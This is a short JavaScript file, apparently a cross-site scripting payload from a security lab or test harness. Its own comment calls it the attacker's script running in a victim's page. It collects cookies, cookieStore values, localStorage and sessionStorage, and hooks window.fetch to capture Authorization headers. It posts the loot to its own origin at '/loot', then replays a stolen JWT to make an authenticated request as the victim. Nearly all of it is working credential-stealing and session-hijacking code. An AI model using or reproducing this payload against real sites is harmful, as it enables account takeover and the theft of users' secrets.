// The attacker's script, in the victim's page: it may do there whatever the page's own may do.
{
  window.injected = true;
  const notebook = new URLSearchParams(location.search).get("notebook");
  const home = new URL(document.currentScript.src).origin;
  const ask = window.fetch;
  const overheard = [];

  const attack = async () => {
    const cookies = (await window.cookieStore?.getAll()) ?? [];
    const found = [document.cookie, ...cookies.map(({ value }) => value), ...overheard];
    found.push(...Object.values(localStorage), ...Object.values(sessionStorage));
    await ask(`${home}/loot?notebook=${notebook}`, { method: "POST", mode: "no-cors", body: found.join("\n") });
    // Reading is not needed: what the browser sends by itself, it sends for this script as well.
    const [token] = found.join("\n").match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/) ?? [];
    const headers = token ? { Authorization: `Bearer ${token}` } : {};
    await ask(`/look?experiment=used&notebook=${notebook}`, { method: "POST", headers });
    dispatchEvent(new Event("attack-over"));
  };

  // What the page's script keeps to itself, it shows when it sends it.
  window.fetch = async (address, options) => {
    overheard.push(new Headers(options?.headers).get("Authorization") ?? "");
    const answer = await ask(address, options);
    if (address.startsWith("/look")) attack();
    return answer;
  };
}
